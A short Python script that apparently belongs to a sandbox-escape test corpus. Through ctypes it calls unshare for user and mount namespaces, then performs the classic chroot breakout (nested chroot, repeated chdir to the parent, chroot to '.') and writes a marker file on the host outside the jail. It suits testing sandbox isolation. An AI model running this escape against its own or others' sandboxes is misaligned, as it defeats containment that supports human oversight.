"""unshare(CLONE_NEWUSER|CLONE_NEWNS) through ctypes, then the classic chroot escape to write on the host."""

import ctypes
import os

T = {}  # the corpus runner puts the targets here

libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x10000000 | 0x00020000) != 0:
    raise OSError(ctypes.get_errno(), "unshare(): " + os.strerror(ctypes.get_errno()))
os.mkdir("jail")
if libc.chroot(b"jail") != 0:
    raise OSError(ctypes.get_errno(), "chroot(): " + os.strerror(ctypes.get_errno()))
for _ in range(64):
    os.chdir("..")
libc.chroot(b".")
with open(T["outside"] + "/planted", "w") as fh:
    fh.write("escaped")
